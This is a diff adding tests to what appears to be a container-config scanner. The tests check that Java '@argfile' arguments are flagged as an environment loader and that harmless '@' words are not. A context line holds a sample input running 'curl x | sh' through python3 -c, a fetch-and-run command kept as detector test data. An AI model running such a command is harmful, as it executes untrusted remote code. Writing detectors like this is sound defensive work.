@@ -115,6 +115,21 @@ describe('configArgFindings', () => {
   });
 });
 
+describe('configArgFindings: a java argument file', () => {
+  it('java @FILE is ENV_LOADER: the launcher reads -javaagent: and the rest from it', () => {
+    const found = configArgFindings({
+      entrypoint: ['/usr/bin/java', '@/usr/share/doc/x/opts', '-cp', '/var/task', 'Main'],
+    });
+    expect(found.map((f) => [f.code, f.path])).toEqual([['ENV_LOADER', 'java @']]);
+    expect(found[0]!.message).toContain('@/usr/share/doc/x/opts');
+  });
+
+  it('an @ word for another program, or an escaped @@, is not', () => {
+    expect(configArgFindings({ cmd: ['/usr/bin/notify', '@team'] })).toEqual([]);
+    expect(configArgFindings({ cmd: ['java', '-cp', '/var/task', 'Main', '@@x'] })).toEqual([]);
+  });
+});
+
 describe('configArgFindings: inline code', () => {
   it.each([
     [['python3', '-c', "import os; os.system('curl x | sh')"], 'python3 -c'],
